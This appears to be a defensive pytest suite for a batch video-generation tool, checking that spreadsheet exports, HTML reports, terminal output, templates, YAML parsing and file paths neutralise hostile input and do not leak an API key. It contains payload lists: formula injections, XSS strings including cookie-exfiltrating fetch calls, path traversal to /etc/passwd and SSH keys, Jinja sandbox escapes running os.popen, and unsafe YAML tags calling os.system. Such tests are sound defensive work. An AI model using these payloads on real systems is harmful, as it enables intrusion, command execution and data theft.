"""Proves: what a row, a template or an answer says stays text: in tables, pages, terminals, files.

And the key is nowhere but in the requests, a signed link nowhere but in the state and the results.
"""

from __future__ import annotations

import csv
import itertools
import json
import os
import re
import subprocess
import sys
import tracemalloc
import unicodedata
import zipfile
from collections.abc import Iterator, Sequence
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from PIL import Image

from batchgen.clip import Balance, LocalPicture, Status
from batchgen.errors import InputError, JobFileError
from batchgen.item import Item
from batchgen.job.schema import Job
from batchgen.job.text_yaml import TextYamlError, parse_text_yaml
from batchgen.messages import Message, visible
from batchgen.output.report import Heading, ReportRows, render_report
from batchgen.output.rows import ResultRow
from batchgen.output.tables import write_results
from batchgen.plan.clips.prompts import PromptError, compile_prompt
from tests.catalogue.whole import read_whole
from tests.prove.bombs import bombs, read_in_own_process
from tests.provider.provider_server import serving
from tests.truth.clips import plain_film

pytestmark = pytest.mark.prove

BOMBS = ("alias of a long text", "aliases of aliases", "merges of merges", "deep YAML", "deep JSON",
         "deep JSON line", "a cell far away", "a cell far away, other quotes",
         "cells without a place", "rows that pack well", "one long cell", "long shared strings",
         "a part that lies", "a wide picture", "a picture of 4 billion", "a picture's long text",
         "a picture's long profile")  # fmt: skip

# Spreadsheets

_COMMANDS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"y")', "SUM(A1:A9)", "A1")
_STARTS = (
    *("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"),
    *("\t=", "\r=", "\n=", " =", "\xa0=", "\ufeff=", "\u200b=", "'="),
    *("''=", "\u3000@", "\u202e=", "\xad+", "a\n=", "a\r\n@", "a\u2028=", "\t"),
    *("\r", "\x0b=", "\u2060-", "\xa0\u200b\uff1d", "\ufe62", "\ufe63", "\ufe66", "\ufe6b"),
    *("\u208a", "\u208c", "\u207c", "\u207a", "\x1f=", "\x85=", "=\t", "\x1c="),
)
FORMULAS = [start + command for start, command in itertools.product(_STARTS, _COMMANDS)]


def might_calculate(cell: str) -> bool:
    """Tell whether a spreadsheet might take the start of a line of the cell for a formula."""
    if cell.startswith("'"):
        return False
    for line in re.split(r"[\r\n\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", cell):
        shown = "".join(c for c in line if unicodedata.category(c)[0] not in "CZ")
        if unicodedata.normalize("NFKC", shown)[:1] in {"=", "+", "-", "@"}:
            return True
    return cell[:1] in {"\t", "\r", "\n"}


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Results of 200 clips that carry a formula in each of their texts."""
    root = tmp_path_factory.mktemp("tables")
    texts = ("variant", "prompt", "images", "error", "error_code", "task_id", "request_id")
    fields: list[dict[str, Any]] = [
        dict.fromkeys((*texts, "sku", "model", "video_url"), f) for f in FORMULAS
    ]
    rows = [ResultRow(status=Status.FAILED, **field) for field in fields]
    items = [Item(f, "a.csv", at, {"sku": f, f"{f} {at}": f}) for at, f in enumerate(FORMULAS, 2)]
    write_results(root, rows, items, [])
    return root


@pytest.mark.parametrize("name", ["results.csv", "failed.csv"])
def test_no_cell_of_a_table_is_a_formula(tables: Path, name: str) -> None:
    """200 formulas in every column, and in the headers of failed.csv, stay text."""
    assert len(FORMULAS) >= 200
    with (tables / name).open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, strict=True) for cell in row]
    assert len(cells) > 200 * 10
    assert [cell for cell in cells if might_calculate(cell)] == []


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(tables: Path) -> None:
    """The workbook has no formula, no link and no name; each text is a typed string."""
    with zipfile.ZipFile(tables / "results.xlsx") as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    sheets = "".join(text for name, text in parts.items() if "worksheets" in name)
    assert "cmd|" in "".join(parts.values())
    assert not re.search(r"<(\w+:)?(f|hyperlink|oleObject|definedName)\b", sheets)
    assert not any("TargetMode" in text or "externalLink" in name for name, text in parts.items())


# The page

_SCRIPTS = ("alert(1)", "fetch('//x/'+document.cookie)", "location='//x'", "top[`al`+`ert`](1)")
_HTML = (
    "<script>{}</script>",
    "<ScRiPt src=//x>{}</ScRiPt>",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script>",
    "<math><mtext></title><img src onerror={}>",
    '" onmouseover="{}',
    "' onfocus='{}' autofocus x='",
    "` onload=`{}`",
    '"><script>{}</script>',
    "'><img src onerror={}>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</bdi></p></li><script>{}</script>",
    "--><script>{}</script><!--",
    "<!--><script>{}</script>",
    "]]><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<base href=//x/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//x/{}>",
    "<form action=//x/{}><input type=submit>",
    "<button formaction=javascript:{}>x</button>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<style>@import '//x/{}';</style>",
    "<p style='background:url(//x/{})'>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "<script\x00>{}</script>",
    "<\x00script>{}</script>",
    "\ufeff<script>{}</script>",
    "＜script＞{}＜/script＞",
    "<script/x>{}",
    "<<script>{}//<</script>",
    "<img src=`x` onerror={}//",
    "<x onclick={}>",
    "<plaintext>{}",
    "<textarea><script>{}</script>",
    "<noscript><p title='</noscript><img src onerror={}>'>",
    "<template><script>{}</script></template>",
    "<marquee onstart={}>",
    "<isindex onfocus={}>",
    "<keygen autofocus onfocus={}>",
    "<xss id=x tabindex=1 onfocus={}>",
    "<image href=x onerror={}>",
    "{{{{ {} }}}}",
    "{{% raw %}}<script>{}</script>{{% endraw %}}",
    "${{{}}}",
    "<%= {} %>",
    "\u202e<script>{}</script>",
    "<svg><a xlink:href=javascript:{}>",
    "<svg><use href=//x/{}#y>",
    "<svg><animate onbegin={} attributeName=x>",
    "<set onbegin={}>",
    "<frameset onload={}>",
    "<table background=javascript:{}>",
    "<input onfocus={} autofocus>",
    "<select onfocus={}>",
    '\\" onload=\\"{}',
    "%22%3E%3Cscript%3E{}%3C/script%3E",
    "\x1b]8;;//x\x07<script>{}</script>",
    '<a href="file:///etc/passwd">{}',
    "\r\n\r\n<script>{}</script>",
    "+ADw-script+AD4-{}",
)
PAYLOADS = [form.format(script) for form in _HTML for script in _SCRIPTS]

HEADING = Heading("job", Balance(spent=Decimal("1.25")), "CNY", 1_700_000_000.0)


class Shape(HTMLParser):
    """The elements and attributes of a page in order, and the links that it holds."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, ...]] = []
        self.links: list[str] = []
        self.others: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.elements.append((tag, *(name for name, _ in attrs)))
        links = {"src", "href", "poster", "data", "action", "srcset", "style"}
        self.links += [value or "" for name, value in attrs if name in links]

    def handle_comment(self, data: str) -> None:
        """Note a comment."""
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        """Note a processing instruction."""
        self.others.append(data)


def shape_of(text: str, status: Status) -> Shape:
    """Draw a page whose every text is this one."""
    row = ResultRow(
        sku=text,
        variant=text,
        take=2,
        model=text,
        status=status,
        cost=Decimal("1.25"),
        currency=text,
        money="spent",
        task_id=text,
        request_id=text,
        video_url=f"https://cdn.example/{text}",
        file=f"clips/{text}/main.mp4" if status is Status.DONE else None,
        poster=f"clips/{text}/main.jpg" if status is Status.DONE else None,
        prompt=text,
        images=text,
        error_code=text,
        error=text,
    )
    heading = Heading(text, HEADING.money, text, HEADING.made_at)
    noting = ReportRows()
    assert list(noting.noting([row])) == [row]
    return Shape(render_report(noting, heading, say=lambda message: str(message)))


@pytest.mark.parametrize("status", [Status.DONE, Status.FAILED])
def test_no_payload_becomes_an_element_or_an_attribute(status: Status) -> None:
    """300 payloads in every text of the page leave its elements as a harmless word does."""
    harmless = shape_of("word", status)
    assert len(PAYLOADS) >= 300
    for payload in PAYLOADS:
        shape = shape_of(payload, status)
        assert shape.elements == harmless.elements, payload
        assert shape.others == harmless.others, payload
        assert all(link.startswith("clips/") and ":" not in link for link in shape.links), payload


# The terminal

ESCAPES = (
    *(
        "\x1b[2J",
        "\x1b]0;title\x07",
        "\x1b]8;;http://x\x07y",
        "\x1b[31m",
        "\x9b2J",
        "\x90q\x9c",
        "\x07",
        "\x08\x08\x08",
    ),
    *("\r", "\n", "\r\nerror: none", "\x7f", "\x00", "\x1b[6n", "\x1bc", "\x1b[?1049h"),
    *("\x1b]52;c;aGk=\x07", "\x1b_G\x1b\\", "\x0e", "\x0f", "\x1b[20t", "\x85", "\u202e", "\u202d"),
    *("\u2066", "\u2067", "\u2068", "\u2069", "\u202a", "\u202b", "\u202c", "\u200e"),
    *("\u200f", "\u061c", "\u2028", "\u2029", "\ud800", "\udfff"),
)


def acting(text: str) -> list[str]:
    """List the characters that a terminal obeys, that end a line, or that cannot be written."""
    turning = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    return [
        ascii(c)
        for c in text
        if (unicodedata.category(c) in {"Cc", "Cs", "Zl", "Zp"} and c != "\t")
        or unicodedata.bidirectional(c) in turning
        or c in "\u061c\u200e\u200f"
    ]


def test_nothing_acts_on_the_terminal_through_a_message() -> None:
    """Every control, line end and direction mark comes out as its escape, on one line."""
    every = [chr(code) for code in range(0x110000) if acting(chr(code))]
    for text in (*ESCAPES, *every):
        shown = visible(f"SKU {text}: ok")
        assert acting(shown) == [], ascii(text)
        assert shown.encode() != b"SKU : ok"


@pytest.mark.parametrize("options", [(), ("--json",)])
def test_nothing_acts_on_the_terminal_through_a_command(
    tmp_path: Path, options: tuple[str, ...]
) -> None:
    """`check` and `plan` of catalogues full of escapes print no byte that a terminal obeys."""
    job = (
        "name: \"a\\e[2J\"\nmanifest: {path: a.json}\noutput: out\nclip: {prompt: '{{ title }}'}\n"
    )
    (tmp_path / "job.yaml").write_text(job)
    length = 0
    for some in batched(ESCAPES):
        rows = [{"sku": f"S{at}{e}", "title": e, "image": f"x{e}.png"} for at, e in enumerate(some)]
        (tmp_path / "a.json").write_text(json.dumps(rows))
        for command in ("check", "plan"):
            ended = batchgen(tmp_path, command, "job.yaml", *options)
            assert ended.returncode in {0, 2}, ended.stderr
            said = (ended.stdout + ended.stderr).decode()
            assert acting(said.replace("\n", "")) == []
            assert "error: none" not in {line.strip() for line in said.splitlines()}
            if options:
                assert json.loads(ended.stdout)
            length += len(said)
    assert length > 2 * 1_000


def batched(texts: Sequence[str]) -> Iterator[Sequence[str]]:
    """Yield so few at once that each row's fault is told by itself."""
    return (texts[at : at + 15] for at in range(0, len(texts), 15))


def batchgen(
    folder: Path, *arguments: str, **environment: str
) -> subprocess.CompletedProcess[bytes]:
    """Run a command in a process of its own, with a home of its own."""
    return subprocess.run(
        [sys.executable, "-m", "batchgen", *arguments],
        cwd=folder,
        env=own_environment(folder) | environment,
        capture_output=True,
        check=False,
        timeout=120,
    )


def own_environment(folder: Path) -> dict[str, str]:
    """Give an environment in which everything lies below one folder."""
    return {
        "PATH": os.environ["PATH"],
        "PYTHONPATH": str(Path(__file__).parents[2]),
        "PYTHONUTF8": "1",
        "PYTHONDONTWRITEBYTECODE": "1",
        "HOME": str(folder / "home"),
        "XDG_STATE_HOME": str(folder / "home" / "state"),
    }


# Picture cells

CELLS = (
    *("/etc/passwd", "/etc/hostname", "/proc/self/environ", "/dev/zero", "/dev/stdin", "/dev/null"),
    *("~/.ssh/id_rsa", "~root/x", "$HOME/x", "%USERPROFILE%\\x", "~", "/", ".", "..", "../", "./"),
    *("../secret.png", "..\\secret.png", "a/../../secret.png", "a\\..\\..\\secret.png"),
    *("./../secret.png", "a/./../../secret.png", "....//secret.png", "..;/secret.png", "../shop/"),
    *("%2e%2e/secret.png", "..%2fsecret.png", "%2e%2e%5csecret.png", "..%c0%afsecret.png"),
    *("．．/secret.png", "‥/secret.png", "..∕secret.png", "../secret.png\0.png", "../secret.png "),
    *("../SECRET.PNG", "../secret.png/.", "../secret.png::$DATA", "a/../../../../../../etc/passwd"),
    *("link.png", "chain.png", "folder/secret.png", "folder/../secret.png", "loop.png", "pipe.png"),
    *("fd.png", "folder", "inside", "hard/../../secret.png", "socket.png", "nowhere.png"),
    *("\\\\server\\share\\x.png", "//server/share/x.png", "\\\\?\\C:\\x.png", "\\\\.\\pipe\\x"),
    *("C:\\Windows\\win.ini", "C:x.png", "CON", "NUL.png", "a" * 5000, "../" * 3000 + "etc/passwd"),
    *("file:///etc/passwd", "file:../secret.png", "FILE:/etc/passwd", "data:image/png;base64,AA"),
    *("php://filter/x", "ftp://x/y.png", "gopher://x", "jar:file:///x", "javascript:alert(1)"),
)


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    """A shop whose links lead to a secret beside it."""
    secret = tmp_path / "secret.png"
    Image.new("RGB", (400, 300), "red").save(secret)
    shop = tmp_path / "shop"
    (shop / "a").mkdir(parents=True)
    (shop / "inside").mkdir()
    (shop / "link.png").symlink_to(secret)
    (shop / "chain.png").symlink_to("link.png")
    (shop / "folder").symlink_to("..")
    (shop / "loop.png").symlink_to("loop.png")
    (shop / "fd.png").symlink_to("/proc/self/fd/0")
    os.mkfifo(shop / "pipe.png")
    return shop


def job_of(folder: Path, name: str) -> Job:
    """Make a job over one manifest."""
    job = {"name": "x", "manifest": {"path": name}, "output": "out", "path": folder / "job.yaml"}
    return Job.model_validate(job)


def test_no_image_cell_leaves_the_picture_folders(shop: Path) -> None:
    """60 ways out, in each of the columns of pictures, are faults; none is a local picture."""
    assert len(CELLS) >= 60
    for column in ("image", "images", "start_image"):
        rows = [{"sku": f"S{at}", column: cell, "end_image": cell} for at, cell in enumerate(CELLS)]
        (shop / "a.json").write_text(json.dumps(rows))
        catalogue = read_whole(job_of(shop, "a.json"))
        taken = [picture for item in catalogue.items for picture in item.pictures]
        assert [picture for picture in taken if isinstance(picture, LocalPicture)] == []
        faulty = {fault.row for fault in catalogue.faults if fault.code.startswith("picture-")}
        assert len(faulty) >= len(CELLS) - 5  # two of them hold "//": those are URLs of a server


# Templates

ESCAPING = (
    "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''['__class__'] }}",
    "{{ title|attr('__class__') }}",
    "{{ title.__init__.__globals__ }}",
    "{{ self }}",
    "{{ self.__init__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__ }}",
    "{{ joiner }}",
    "{{ namespace(a=1) }}",
    "{{ range(9) }}",
    "{{ dict(a=1) }}",
    "{{ config }}",
    "{{ request.application.__globals__ }}",
    "{{ title.format(title) }}",
    "{{ title.format_map(title) }}",
    "{{ '%s' % title }}",
    "{{ '{0.__class__}'.format(title) }}",
    "{{ title|format(title) }}",
    "{{ title.encode() }}",
    "{{ title.translate({}) }}",
    "{% set a = title.__class__ %}{{ a }}",
    "{% import 'os' as os %}",
    "{% from 'x' import y %}",
    "{% include '/etc/passwd' %}",
    "{% extends 'x' %}",
    "{% macro a() %}{{ caller() }}{% endmacro %}",
    "{% call a() %}{% endcall %}",
    "{% filter attr('x') %}{% endfilter %}",
    "{% block a %}{% endblock %}",
    "{% with a = 1 %}{% endwith %}",
    "{% raw %}{{ x }}{% endraw %}{{ title.__doc__ }}",
    "{% debug %}",
    "{% do title %}",
    "{{ title | map('attr', '__class__') | list }}",
    "{{ [title] | groupby('__class__') }}",
    "{{ title | tojson }}",
    "{{ title | pprint }}",
    "{{ title | urlize }}",
    "{{ title | xmlattr }}",
    "{{ title is defined.__class__ }}",
    "{{ title.split.__self__ }}",
    "{{ title.split.__call__ }}",
    "{{ (title).upper.__func__ }}",
    "{{ loop }}",
    "{{ caller() }}",
    "{{ varargs }}",
    "{{ title['\\x5f\\x5fclass\\x5f\\x5f'] }}",
)
GROWING = (
    "{{ 'x' * 999999999 }}",
    "{{ title * 999999999 }}",
    "{{ [0] * 999999999 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 2 ** 99999999 }}",
    "{% for a in range(9999999) %}x{% endfor %}",
    "{% for a in title %}{% for b in title %}x{% endfor %}{% endfor %}",
    "{{ 'x'.ljust(999999999) }}",
    "{{ 'x'.center(999999999) }}",
    "{{ 'x'.zfill(999999999) }}",
    "{{ 'x' | center(999999999) }}",
    "{{ 'x' | indent(999999999) }}",
    "{{ 'x' | wordwrap(1, wrapstring=title) }}",
    "{{ title | join(title) }}",
    "{{ title.join(title) }}",
    "{{ title | batch(999999999, 'x') | list }}",
    "{{ title | slice(999999999) | list }}",
    "{{ 'a' | replace('', title) | replace('', title) | replace('', title) }}",
    "{{ title | replace('x', title) | replace('x', title) | replace('x', title) }}",
    "{{ title.replace('', title) }}",
    "{{ 1.5 | round(999999999) }}",
    "{{ 1 | round(-999999999) }}",
    "{{ '9' * 9 | int }}",
    "{{ ('9' ~ title) | int }}",
    "{{ title | truncate(-1) }}",
    "{{ title | truncate(999999999, true, title) }}",
    "{{ title.expandtabs(999999999) }}",
    "{{ title ~ title ~ title ~ title ~ title ~ title ~ title ~ title }}",
    "{{ title + title + title + title + title + title + title + title }}",
    "{{ [title, title, title, title] }}",
    "{% if title %}" * 300 + "{% endif %}" * 300,
    "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
    "{{ " + "-" * 3000 + "1 }}",
    "{{ " + "not " * 900 + "1 }}",
    "{{ title" + "[0]" * 900 + " }}",
    "{{ title" + "|upper" * 600 + " }}",
    "{{ " + "1+" * 1900 + "1 }}",
    "{{ '%999999999d' % 1 }}",
    "{{ '%0999999999d'|format(1) }}",
    "{{ title[::-1] * 9 }}",
    "{{ title.strip(title).split('', 9) }}",
)
ROW = {"title": "x" * 3000, "sku": "secret"}


@pytest.mark.parametrize("text", ESCAPING)
def test_no_template_reaches_beyond_its_row(text: str) -> None:
    """A template that asks for more than its cells is refused, or gives nothing of Python."""
    try:
        made = compile_prompt(text).render(ROW)
    except InputError:
        return
    made = made.replace("<TemplateReference None>", "")  # what `self` is called, and nothing more
    assert "secret" not in made
    assert not re.search(r"<|__|class|method|object|0x[0-9a-f]{6}", made)


@pytest.mark.parametrize("text", GROWING, ids=range(len(GROWING)))
def test_no_template_grows_without_bound(text: str) -> None:
    """A template that multiplies its row ends as an error or a short text, in little memory."""
    tracemalloc.start()
    try:
        made = compile_prompt(text).render(ROW)
    except (JobFileError, PromptError):
        made = ""
    finally:
        _, most_bytes = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert len(made) <= 4_000
    assert most_bytes < 32 * 1024 * 1024


@pytest.mark.parametrize("cell", [*ESCAPING[:10], "{{ 7 * 7 }}", "{% for x in y %}", "${7*7}"])
def test_a_cell_is_never_a_template(cell: str) -> None:
    """What a cell says comes out as it is, blanks aside."""
    made = compile_prompt("{{ title }}").render({"title": cell})
    assert made == " ".join(cell.split())


# YAML and bombs

TAGS = (
    "!!python/object/apply:os.system ['touch pwned']",
    "!!python/object/new:os.system ['touch pwned']",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!python/object:os.PathLike {}",
    "!!python/tuple [1, 2]",
    "!!binary aGk=",
    "!!timestamp 2026-01-01",
    "!!set {a, b}",
    "!!omap [a: 1]",
    "!!int '1'",
    "!!bool 'no'",
    "!!float '.nan'",
    "!include /etc/passwd",
    "!env HOME",
    "!<tag:yaml.org,2002:python/object/apply:os.system> [id]",
    "!x y",
    "!!map {a: 1}",
    "!!seq [1]",
    "!!merge x",
)


@pytest.mark.parametrize("place", ["{}", "a: {}", "- {}", "? {}\n: x", "<<: {}", "a: &b {}"])
@pytest.mark.parametrize("tag", TAGS)
def test_no_tag_of_yaml_makes_anything(tag: str, place: str) -> None:
    """A tag, wherever it stands, is refused, or leaves plain texts, lists and mappings."""
    try:
        value = parse_text_yaml(place.format(tag)).value
    except TextYamlError:
        return
    assert "pwned" not in json.dumps(value)
    assert json.loads(json.dumps(value)) == value


@pytest.fixture(scope="module")
def made_bombs() -> dict[str, tuple[str, bytes]]:
    """Every bomb, packed."""
    return bombs()


@pytest.mark.skipif(sys.platform != "linux", reason="memory is read from /proc")
@pytest.mark.parametrize("name", BOMBS)
def test_no_bomb_takes_much_memory(
    made_bombs: dict[str, tuple[str, bytes]], tmp_path: Path, name: str
) -> None:
    """A file of at most 2 MB is refused within 150 MiB more than a reader needs anyway."""
    file, content = made_bombs[name]
    assert len(content) < 2_000_000
    (tmp_path / file).write_bytes(content)
    (tmp_path / "a.csv").write_text("sku,image\nA,a.png\n")
    end, most_mib = read_in_own_process(tmp_path, "a.csv" if file == "a.png" else file)
    assert end in {"ManifestError", "faults"}
    assert most_mib < 40 + 150


def test_every_bomb_is_tried(made_bombs: dict[str, tuple[str, bytes]]) -> None:
    """The names above are those of the bombs."""
    assert set(BOMBS) == set(made_bombs)


# The key and the signed links

KEY = "c4n4ry00c4n4ry00c4n4ry00c4n4ry00.KeyCanaryKeyCana"
SIGNATURE = "SignatureCanary"
#: What the API answers to one submit after another; it quotes the key wherever it can.
ANSWERS: tuple[tuple[int, object], ...] = (
    (200, {"id": "task-1", "note": KEY}),
    (400, {"error": {"code": "1301", "message": f"refused for Bearer {KEY}"}}),
    (200, {"id": "task-2"}),
    (400, {"error": {"code": KEY, "message": f"{KEY} {KEY}"}}),
    (500, f"<html>{KEY}</html>"),
    (418, {"code": "1210", "msg": f"Authorization: Bearer {KEY}"}),
    (200, {"id": "task-3"}),
    (200, {"id": f"{KEY}/x", "error": KEY}),
    (401, {"error": {"code": "1000", "message": f"the key {KEY} is wrong"}}),
)


class EchoingApi:
    """Answers submits with `ANSWERS` in turn, polls and downloads; quotes the key in everything."""

    def __init__(self) -> None:
        self.answers = iter(ANSWERS)
        #: Keys that API requests came with.
        self.keys: set[str] = set()
        #: Heads of the downloads.
        self.downloads: list[str] = []

    async def answer(self, request: web.Request) -> web.StreamResponse:
        """Answer anything."""
        kind = request.path.rpartition(".")[2]
        if kind in {"mp4", "jpg", "gone"}:
            self.downloads.append(str(request.headers))
            return web.Response(status=410 if kind == "gone" else 200, body=plain_film())
        self.keys.add(request.headers["Authorization"].removeprefix("Bearer "))
        status, body = 200, self.task(request)
        if request.method == "POST":
            status, body = next(self.answers, ANSWERS[-1])
        headers = {"X-Echo": KEY, "Set-Cookie": f"k={KEY}"}
        if isinstance(body, str):
            return web.Response(status=status, text=body, headers=headers)
        return web.json_response(body, status=status, headers=headers)

    def task(self, request: web.Request) -> object:
        """Tell how a task ended: the second failed, the third one's file is gone."""
        task = request.path.rsplit("/", 1)[-1]
        if task == "task-2":
            return {"task_status": "FAIL", "error": {"code": "1301", "message": f"no {KEY}"}}
        link = f"http://{request.host}/{task}.{{}}?Signature={SIGNATURE}"
        video = link.format("gone" if task == "task-3" else "mp4")
        result = {"url": video, "cover_image_url": link.format("jpg")}
        return {"task_status": "SUCCESS", "video_result": [result], "model": KEY}


async def live_through_everything(folder: Path, echoing: EchoingApi) -> bytes:
    """Run a job against the API, then every command that shows it; give all that was said."""
    rows = "\n".join(f"S{n},Mug,https://shop.example/{n}.png" for n in range(len(ANSWERS)))
    (folder / "a.csv").write_text(f"sku,title,image\n{rows}\n")
    (folder / "job.yaml").write_text(
        "name: canary\nmanifest: {path: a.csv}\noutput: out\n"
        "account: {max_polls_per_second: 500}\nclip: {prompt: '{{ title }} turns'}\n"
    )
    async with serving(echoing.answer) as api:
        said = await run_until_over(folder, api.base_url)
    known = {"BATCHGEN_API_KEY": KEY, "BATCHGEN_BASE_URL": api.base_url}
    for command in ("status", "report", "ledger", "doctor", "plan"):
        ending = batchgen(folder, command, "job.yaml", **known)
        assert ending.returncode in {0, 3}, (command, ending.stderr)
        said += ending.stdout + ending.stderr
    return said


async def test_the_key_and_signed_links_stay_where_they_belong(tmp_path: Path) -> None:
    """After a run against an API that quotes the key everywhere, no file and no line holds it.

    Signed links stand in the state and in `results.*` and nowhere else.
    """
    echoing = EchoingApi()
    said = await live_through_everything(tmp_path, echoing)
    assert echoing.keys == {KEY}
    assert KEY not in "".join(echoing.downloads)
    assert (KEY.encode() in said, SIGNATURE.encode() in said) == (False, False)
    files = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    assert [path for path, content in files.items() if KEY.encode() in content] == []
    with_links = {path.name for path, content in files.items() if SIGNATURE.encode() in content}
    assert {"results.jsonl", "results.csv"} <= with_links
    assert with_links <= {"state.db", "state.db-wal", "results.jsonl", "results.csv"}
    assert (tmp_path / "out" / "report.html").exists()
    assert list((tmp_path / "out").rglob("*.mp4"))


async def run_until_over(folder: Path, base_url: str) -> bytes:
    """Run the job with everything that it says; the API is served from this process meanwhile."""
    import asyncio

    process = await asyncio.create_subprocess_exec(
        sys.executable,
        *("-X", "dev", "-m", "batchgen", "run", "job.yaml", "--yes", "--base-url", base_url),
        cwd=folder,
        env=own_environment(folder) | {"BATCHGEN_API_KEY": KEY, "PYTHONASYNCIODEBUG": "1"},
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    said, _ = await process.communicate()
    assert process.returncode in {3, 4}, said.decode()
    return said


def test_a_key_in_a_message_is_not_the_only_secret() -> None:
    """The oracle sees what it looks for: a message with an escape in it is found to act."""
    assert acting(str(Message("\x1b[2J"))) == ["'\\x1b'"]
    assert might_calculate("\u200b＝1")
    assert Shape("<p><b onclick=x>").elements == [("p",), ("b", "onclick")]
